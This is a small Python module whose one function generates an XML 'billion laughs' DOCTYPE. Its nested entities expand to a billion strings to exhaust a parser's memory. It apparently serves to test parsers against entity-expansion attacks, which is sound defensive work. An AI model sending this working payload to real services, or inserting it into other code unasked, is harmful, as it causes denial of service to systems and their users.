"""XML prologs that attack a parser: entity expansion (billion laughs)."""

from __future__ import annotations

__all__ = ["billion_laughs"]


def billion_laughs(root: str) -> str:
    """Return a DOCTYPE for ``root`` whose ``&lol9;`` expands to 10**9 "lol"s."""
    entities = "".join(
        f'<!ENTITY lol{i} "' + (f"&lol{i - 1};" if i > 1 else "&lol;") * 10 + '">'
        for i in range(1, 10)
    )
    return f'<!DOCTYPE {root} [<!ENTITY lol "lol">{entities}]>'
